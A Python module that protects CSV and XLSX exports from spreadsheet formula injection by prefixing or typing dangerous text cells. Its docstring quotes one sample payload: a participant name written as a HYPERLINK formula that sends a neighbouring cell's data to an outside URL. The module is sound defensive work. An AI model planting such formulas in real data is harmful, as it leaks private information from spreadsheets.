"""Text written to a spreadsheet stays text: no name, title or organisation ever becomes a formula.

A participant called ``=HYPERLINK("http://…?leak="&C2,"Open")`` must not turn the attendance export
into a link that sends the neighbouring cells away. One rule (OWASP "CSV injection"): a text value
starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is dangerous.

- CSV has no cell types: such a value is written with a leading apostrophe (``'=6*7``), which every
  spreadsheet shows as text. This is the one place where a CSV differs from the stored text.
- XLSX has cell types: the value is written unchanged as an inline string (never an ``<f>``
  element), with the "quote prefix" style so that editing the cell in Excel keeps it text.

Every writer of CSV or XLSX (``exports``, ``report``) goes through here.
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import Any

from .textclean import xml_safe

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def looks_like_formula(value: Any) -> bool:
    """True for a text a spreadsheet could read as a formula (or a number, for ``-1/2``)."""
    return isinstance(value, str) and value.startswith(FORMULA_START)


def csv_text(value: Any) -> Any:
    """A CSV cell: dangerous text gets a leading apostrophe, anything else is unchanged."""
    return "'" + value if looks_like_formula(value) else value


def csv_row(row: Iterable[Any]) -> list[Any]:
    return [csv_text(v) for v in row]


def protect(cell: Any) -> Any:
    """An openpyxl cell holding dangerous text (or a formula made from text) becomes a text cell."""
    if cell.data_type == "f" or looks_like_formula(cell.value):
        cell.data_type = "s"
        cell.quotePrefix = True
    return cell


def xlsx_row(ws: Any, row: Iterable[Any]) -> list[Any]:
    """Values for ``ws.append`` on a write-only sheet: dangerous text becomes a typed text cell, and
    characters XLSX cannot hold (in rows stored before the entry rule) are left out (``xml_safe``)."""
    from openpyxl.cell import WriteOnlyCell

    values = [xml_safe(v) if isinstance(v, str) else v for v in row]
    return [protect(WriteOnlyCell(ws, value=v)) if looks_like_formula(v) else v for v in values]


def xlsx_text_only(wb: Any) -> None:
    """Make every text cell of a (normal, not write-only) workbook text, whatever it starts with.

    openpyxl turns a string starting with ``=`` into a formula when it is assigned; this undoes it
    before saving. The app never writes formulas on purpose.
    """
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                protect(cell)
